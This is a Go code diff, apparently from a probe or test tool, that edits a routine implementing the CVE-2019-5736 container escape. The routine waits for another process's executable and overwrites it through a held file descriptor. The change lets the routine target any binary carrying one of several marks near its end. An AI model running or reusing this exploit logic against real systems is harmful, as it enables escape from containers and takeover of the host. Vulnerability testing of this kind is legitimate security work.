@@ -5,6 +5,7 @@ import (
 	"fmt"
 	"os"
 	"runtime"
+	"slices"
 	"strconv"
 	"strings"
 	"time"
@@ -95,7 +96,7 @@ func opened(pid int, name string, flags int) error {
 }
 
 // overwrite waits for a process whose program is not the probe, keeps the program open, and once it is no longer executed
-// writes to it: CVE-2019-5736. The second word is how long to try, the first part of the program's path on the host.
+// writes to it: CVE-2019-5736. The words are marks at the end of programs that are worth it.
 func overwrite(args []string) error {
 	fmt.Println("begin")
 	for {
@@ -104,11 +105,12 @@ func overwrite(args []string) error {
 			if err != nil {
 				continue
 			}
-			if !contains(exe, args[0]) {
+			i := slices.IndexFunc(args, func(mark string) bool { return contains(exe, mark) })
+			if i < 0 {
 				unix.Close(exe)
 				continue
 			}
-			fmt.Println("opened")
+			fmt.Println("opened", args[i])
 			err = writeThrough(exe)
 			fmt.Println("write:", word(err))
 			unix.Close(exe)
@@ -133,15 +135,15 @@ func writeThrough(fd int) error {
 	return unix.ETXTBSY
 }
 
-// contains looks for a mark at the end of a file.
+// contains looks for a mark in the last bytes of a file.
 func contains(fd int, mark string) bool {
 	var st unix.Stat_t
-	end := make([]byte, len(mark))
 	if unix.Fstat(fd, &st) != nil {
 		return false
 	}
-	_, err := unix.Pread(fd, end, st.Size-int64(len(mark)))
-	return err == nil && string(end) == mark
+	end := make([]byte, min(st.Size, 4096))
+	_, err := unix.Pread(fd, end, st.Size-int64(len(end)))
+	return err == nil && strings.Contains(string(end), mark)
 }
 
 // others are the processes that are to be seen here, but this one and its threads.
